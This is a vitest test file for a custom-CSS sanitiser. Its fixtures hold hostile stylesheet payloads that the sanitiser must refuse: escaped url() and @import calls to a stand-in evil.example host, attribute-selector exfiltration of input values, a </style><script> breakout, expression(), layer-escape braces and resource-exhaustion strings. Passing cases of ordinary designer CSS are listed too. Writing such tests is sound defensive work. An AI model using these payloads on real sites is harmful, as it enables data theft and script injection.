// Custom CSS: what hostile stylesheets try is refused at its place, and what designers write passes.
import { describe, expect, test } from 'vitest';
import { customCss } from '../../src/config/theme/custom-css.ts';

const elsewhere = 'https://evil.example/x';
const hostile: readonly (readonly [string, string])[] = [
  ['an escaped url', `a { background: u\\72l(${elsewhere}) }`],
  ['a wholly escaped url', `a { background: \\75\\72\\6c(${elsewhere}) }`],
  ['an escaped @import', '@\\69mport "//evil.example/x.css";'],
  ['@import of a string', `@import "${elsewhere}";`],
  ['@import of a url, in capitals, without a space', '@IMPORT"//evil.example/x.css" screen;'],
  ['image-set of a string', `a { background: image-set("${elsewhere}" 1x) }`],
  ['-webkit-image-set of a string', `a { background: -webkit-image-set("${elsewhere}" 1x) }`],
  ['src()', `a { background: src("${elsewhere}") }`],
  ['image()', `a { background: image("${elsewhere}") }`],
  ['cross-fade()', `a { background: cross-fade("${elsewhere}", red) }`],
  ['a custom property that holds a url', `a { --x: url(${elsewhere}); background: var(--x) }`],
  [
    'a registered property that starts as a url',
    `@property --x { syntax: "<url>"; inherits: false; initial-value: url(${elsewhere}) }`,
  ],
  ['a closing style element in a string', 'a { content: "</style><script>alert(1)</script>" }'],
  ['a part of it at the end', 'a { content: "</sty" }'],
  ['an escaped one', 'a { list-style: "\\3c/style" }'],
  ['a comment mark of HTML', '<!-- a { color: red } -->'],
  ['the same in a string', 'a { content: "<!--" }'],
  ['the end of CDATA', 'a { content: "]]>" }'],
  ['@charset', '@charset "utf-7"; a { color: red }'],
  ['@namespace', '@namespace url(http://evil.example);'],
  ['@font-face from elsewhere', `@font-face { font-family: x; src: url(${elsewhere}) }`],
  ['@document', '@document url(x) { a { color: red } }'],
  ['behavior', 'a { behavior: url(x.htc) }'],
  ['-moz-binding', 'a { -moz-binding: url(x.xml#y) }'],
  ['expression()', 'a { width: expression(alert(1)) }'],
  ['a brace that is never closed', 'a { color: red'],
  ['a brace that closes the layer', 'a { color: red } } body { display: none } @layer x {'],
  ['a brace first', '} @layer protect { .banner { display: none } }'],
  ['the protected layer by name', '@layer protect { .banner { display: none !important } }'],
  ['layers in an order of its own', '@layer brand, base, protect;'],
  ['a layer below a reserved one', '@layer brand.x { a { color: red } }'],
  ['exfiltration by attribute selector', `input[value^="a"] { background: url(${elsewhere}?a) }`],
  ['a data: URL', 'a { background: url(data:text/html,x) }'],
  ['a URL without a scheme, nested', '@media (width > 1px) { a { b & { background: URL(//evil.example) } } }'],
  ['a typed attr()', 'a { background: attr(data-x url) }'],
  ['a url in a condition', `@supports (background: url(${elsewhere})) { a { color: red } }`],
  ['a paint worklet', 'a { background: paint(x) }'],
  ['element()', 'a { background: element(#x) }'],
  ['an svg filter', 'a { filter: url(#x) }'],
  ['nesting without end', 'a{'.repeat(5_000)],
  ['brackets without end', `a { b: ${'('.repeat(5_000)} }`],
  ['more rules than a stylesheet has', 'a { color: red }\n'.repeat(2_001)],
];

test.each(hostile)('refused: %s', async (_, css) => {
  const result = await customCss(css);
  expect(result.ok ? result.css : 'refused').toBe('refused');
});

test.each([
  ['a { color: red }\nb {\n  background: url(x);\n}\n', { line: 3, column: 15 }],
  ['a { color: red }\n\n  @font-face { src: url(x) }\n', { line: 3, column: 3 }],
  ['a { color: red }\nb { color: blue\n', { line: 2, column: 3 }],
  ['/* { */ a { content: "{" }\nb {', { line: 2, column: 3 }],
])('the place of a mistake in %j', async (css, place) => {
  const result = await customCss(css);
  expect(result.ok ? [] : result.mistakes[0]).toMatchObject(place);
});

describe('passes', () => {
  test.each([
    [
      'colours and gradients',
      'a { background: linear-gradient(to right, rgb(1 2 3 / 50%), oklch(60% 0.1 200)); color: color-mix(in oklab, red, blue) }',
    ],
    ['sizes', 'a { width: clamp(1rem, calc(2vw + 3px), min(20rem, 50%)); inset: env(safe-area-inset-top) }'],
    ['custom properties', ':root { --gap: 4px } a { gap: var(--gap, 2px) }'],
    [
      'conditions',
      '@media (width >= 40rem) { a { color: red } } @supports (display: grid) and (not (display: inline-grid)) { a { color: red } } @container (width > 20rem) { a { color: red } }',
    ],
    [
      'animation',
      '@keyframes turn { to { transform: rotate(1turn) translateX(2px) } } a { animation: turn 2s cubic-bezier(0, 0, 1, 1) }',
    ],
    [
      'selectors',
      'a:not(.b):is(c, d):where(e):nth-child(2n + 1 of .x):has(> img) { color: red } ul { li { color: red } }',
    ],
    ['words in strings', 'a::before { content: "see (here): it\'s {ok}" attr(data-label) counter(x) }'],
    ['layers of its own', '@layer reset, looks; @layer looks { a { color: red } }'],
    ['comments', '/* it is "half { open */ a { color: red }'],
  ])('%s', async (_, css) => {
    const result = await customCss(css);
    expect(result.ok ? [] : result.mistakes).toEqual([]);
  });

  test('the result is completely inside the layer of the brand', async () => {
    const result = await customCss('a { color: red }');
    expect(result).toEqual({ ok: true, css: '@layer brand {\na {\n  color: red;\n}\n}\n' });
  });
});
